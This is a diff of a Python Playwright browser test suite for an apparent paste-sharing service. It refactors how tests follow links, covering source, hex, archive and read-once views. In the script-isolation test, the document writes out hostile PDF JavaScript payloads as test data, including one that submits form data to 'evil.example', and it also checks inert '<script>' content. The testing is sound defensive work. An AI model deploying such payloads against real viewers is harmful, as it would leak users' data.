@@ -10,12 +10,12 @@ import wave
 from typing import Any
 
 import pytest
-from playwright.async_api import Page, expect
+from playwright.async_api import expect
 
-from tests.browser.conftest import Browse
+from tests.browser.conftest import Browse, follow
+from tests.browser.looks import check
 from tests.browser.payloads import ANSI, CSVS, JS, JSONS, MARKDOWN, NAMES, TEXTS
 from tests.browser.test_hostile import Visit, paste
-from tests.browser.test_screens import check
 from tests.nodes import Node
 
 pytestmark = pytest.mark.browser
@@ -130,13 +130,13 @@ async def test_each_kind_has_its_view_and_its_source(browse: Browse, node: Node,
             created = await node.paste(content, name=name)
             await page.goto(created["url"])
             await expect(page.locator(selector).first).to_have_text(text)
-            await page.get_by_role("link", name="Source").click()
+            await follow(page.get_by_role("link", name="Source"))
             await expect(page.locator("pre.code.d2, pre.code.d1")).to_have_count(1)
             assert await page.locator("article, .grid, .screen").count() == 0
         created = await node.paste(JSON, name="a.json")
         await page.goto(created["url"])
         await expect(page.locator("pre.code .nt").first).to_have_text('"name"')
-        await page.get_by_role("link", name="Tree").click()
+        await follow(page.get_by_role("link", name="Tree"))
         assert await page.locator(".values details").count() == 6
         await expect(page.locator(".values .m").nth(1)).to_have_text("2.50")
 
@@ -187,7 +187,7 @@ async def test_a_folder_of_files(browse: Browse, node: Node, scripts: bool) -> N
         await picture.scroll_into_view_if_needed()
         await expect(picture).to_have_js_property("naturalWidth", 320)
         assert await page.get_by_role("link", name="nothing").count() == 0
-        await page.locator("#file-4").get_by_role("link", name="Source").click()
+        await follow(page.locator("#file-4").get_by_role("link", name="Source"))
         assert page.url.endswith("?view=source&file=4#file-4")
         assert await page.locator("article.document").count() == 1, "the others stay as they were"
         assert await page.locator(".grid").count() == 0
@@ -216,8 +216,7 @@ async def test_archives_and_their_files(browse: Browse, node: Node, scripts: boo
         page = watched.page
         await page.goto(created["url"])
         await expect(page.locator(".drawing.tree a")).to_have_text(["b.txt", "a.txt", "top.txt"])
-        await page.get_by_role("link", name="a.txt").click()
-        await page.wait_for_url("**/raw/-/*")
+        await follow(page.get_by_role("link", name="a.txt"))
         assert await page.locator("body").inner_text() == f"<script>{JS}</script> of 'src/a.txt'\n"
         await page.goto(f"{created['url']}?view=hex")
         await expect(page.locator("pre.hex")).to_contain_text("00000000  73 72 63 2f 61 2e 74 78")
@@ -238,7 +237,7 @@ async def test_pages_of_bytes(browse: Browse, node: Node) -> None:
             ("Previous", "00005000"),
             ("First", "00000000"),
         ):
-            await page.get_by_role("link", name=word).click()
+            await follow(page.get_by_role("link", name=word))
             assert (await page.locator("pre.hex").inner_text()).startswith(first)
 
 
@@ -247,7 +246,7 @@ async def test_what_can_be_read_once_shows_itself_and_its_source(browse: Browse,
     async with browse() as watched:
         page = watched.page
         await page.goto(created["url"])
-        await page.get_by_role("button", name="Open and delete").click()
+        await follow(page.get_by_role("button", name="Open and delete"))
         await expect(page.locator("article h3")).to_have_text("Pasting at night")
         await expect(page.locator("pre.code.d2")).to_contain_text("# Pasting at night")
         assert await page.locator("nav.views").count() == 0
@@ -297,9 +296,11 @@ async def test_no_name_does_harm(browse: Browse, node: Node) -> None:
 
 
 @pytest.mark.parametrize("script", ["app.alert(1)", "this.submitForm('https://evil.example/')", JS])
-async def test_a_document_that_runs_scripts_does_so_in_its_viewer_only(browse: Browse, node: Node, script: str) -> None:
+async def test_a_document_that_runs_scripts_does_so_in_its_viewer_only(
+    browse_whole: Browse, node: Node, script: str
+) -> None:
     created = await node.paste(pdf(script.replace("(", "\\(").replace(")", "\\)")), name="x.pdf")
-    async with browse() as watched:
+    async with browse_whole() as watched:
         page = watched.page
         await page.goto(created["url"])
         await page.wait_for_load_state("networkidle")
@@ -314,8 +315,7 @@ async def test_a_document_that_runs_scripts_does_so_in_its_viewer_only(browse: B
 # Looks
 
 
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-async def test_pictures(browse: Browse, node: Node, scheme: Any) -> None:
+async def test_pictures(browse: Browse, node: Node) -> None:
     pages: dict[str, str] = {}
     for name, content in (("README.md", README), ("cities.csv", CSV), ("build.log", ANSI_LOG)):
         pages[f"view-{name.partition('.')[2]}"] = (await node.paste(content, name=name))["url"]
@@ -336,8 +336,8 @@ async def test_pictures(browse: Browse, node: Node, scheme: Any) -> None:
             {"name": "src/app/x.csv", "content": CSV[:90]},
         ],
     )
-    async with browse(color_scheme=scheme) as watched:
-        page: Page = watched.page
+    async with browse() as watched:
+        page = watched.page
         for name, url in pages.items():
             await page.goto(url)
             await check(page, name)
